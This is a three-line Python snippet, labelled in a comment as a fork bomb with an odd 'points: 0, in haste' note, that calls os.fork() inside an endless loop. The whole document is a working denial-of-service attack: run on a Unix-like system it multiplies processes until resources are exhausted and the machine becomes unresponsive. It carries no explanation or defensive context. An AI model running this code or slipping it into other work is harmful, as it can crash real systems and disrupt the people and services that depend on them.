# A fork bomb
# points: 0, in haste
import os

while True:
    os.fork()
